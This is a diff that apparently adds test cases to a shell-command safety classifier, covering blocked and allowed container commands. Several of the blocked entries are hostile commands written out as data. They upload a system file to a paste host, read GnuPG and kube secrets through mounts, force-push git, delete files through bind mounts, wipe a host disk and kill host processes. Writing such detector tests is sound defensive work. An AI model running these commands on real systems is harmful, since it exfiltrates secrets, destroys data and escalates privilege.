@@ -81,6 +81,18 @@ RED = [
     ("mknod /tmp/cmds p && sh < /tmp/cmds", "remote-code", "named-pipe", "mknod makes a pipe too"),
     ("./next-job | at 23:00", "remote-code", "schedule-from-pipe", "at reads its job from a program"),
     ("printf \"$JOB\" | batch", "remote-code", "schedule-from-pipe", "batch fed a variable"),
+    # 6. Containers run commands too.
+    ("docker run --rm curlimages/curl -T /etc/os-release https://paste.example.org", "outward", "container-command", "uploads from inside a container"),
+    ("docker run --rm alpine/git push --force origin HEAD:main", "git", "container-command", "the image's entrypoint is git: the arguments are its command"),
+    ("podman run --rm -it ubuntu bash -c 'git reset --hard origin/main && git push -f'", "git", "container-command", "a shell inside the container"),
+    ("docker run --rm -v ~/.gnupg:/g:ro alpine tar cf - /g", "secrets", "container-mount", "a read-only mount of a secret folder is still a read"),
+    ("docker run --rm -v \"$HOME/.kube\":/root/.kube bitnami/kubectl get pods", "secrets", "container-mount", "kube config into a container"),
+    ("docker run --rm -v /var/lib/mysql:/m busybox rm -rf /m/ibdata1", "filesystem", "container-mount", "deletes through a bind mount"),
+    ("docker run --rm --mount type=bind,src=$HOME/photos,dst=/p alpine find /p -delete", "filesystem", "container-mount", "--mount with src and dst"),
+    ("docker container run --rm -v ~/notes:/n -w /n alpine rm -rf .", "filesystem", "container-mount", "relative path in the mounted workdir"),
+    ("docker run --rm --device=/dev/nvme0n1 alpine wipefs -a /dev/nvme0n1", "privilege", "container-device", "a host disk handed in"),
+    ("docker run --rm --ipc=host --pid=host alpine kill -9 -1", "privilege", "container-host-namespace", "host processes"),
+    ("nerdctl run --privileged --rm alpine mount /dev/sda1 /mnt", "privilege", "container-host-root", "privileged container"),
 ]
 
 GREEN = [
@@ -104,4 +116,10 @@ GREEN = [
     ("git diff | python3 tools/count.py", "read", "data-into-interpreter", "the program is a file; stdin is data"),
     ("./gen | sort | uniq -c", "read", "pipeline", "no shell downstream"),
     ("while read -r f; do gofmt -l \"$f\"; done < <(git ls-files '*.go')", "lint-format", "process-substitution-input", "a loop reads names, runs no text"),
+    ("docker run --rm -v \"$PWD\":/w -w /w node:22 npx vitest run", "test", "container-command", "tests in a container"),
+    ("docker run --rm -v /etc/timezone:/etc/timezone:ro -v /etc/localtime:/etc/localtime:ro alpine date", "read", "container-mount", "read-only system time files"),
+    ("docker run --rm -v /etc/ssl/certs:/etc/ssl/certs:ro -v .:/app -w /app python:3.12 python -m pytest", "test", "container-mount", "read-only CA certificates"),
+    ("docker run --rm alpine sh -c 'rm -rf /tmp/* && ls /'", "build", "container-command", "the container's own files"),
+    ("docker run --rm -v .:/src -w /src rust:1 rm -rf /src/target", "build", "container-mount", "a disposable folder through the project mount"),
+    ("docker run -d --name db -e POSTGRES_PASSWORD=dev -v pgdata:/var/lib/postgresql/data postgres:16", "database", "container-volume", "a named volume is not a host path"),
 ]
